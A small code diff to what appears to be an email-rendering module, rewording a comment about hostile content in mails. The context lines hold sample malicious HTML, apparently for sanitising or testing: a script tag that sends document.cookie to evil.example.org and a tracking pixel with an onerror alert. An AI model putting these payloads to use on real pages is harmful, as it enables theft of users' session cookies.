@@ -28,7 +28,7 @@ function paragraphs(text: string): string {
     .join('');
 }
 
-// What mail programs and ill-meaning people leave in mails; whoever shows them has to clean them.
+// What mail programs and attackers leave in mails; whoever shows a mail has to clean it.
 const strays = [
   '<script>window.top.location="https://evil.example.org/?c="+document.cookie</script>',
   '<img src="https://pixel.example.net/open.gif?id=77" width="1" height="1" onerror="alert(1)" alt="">',
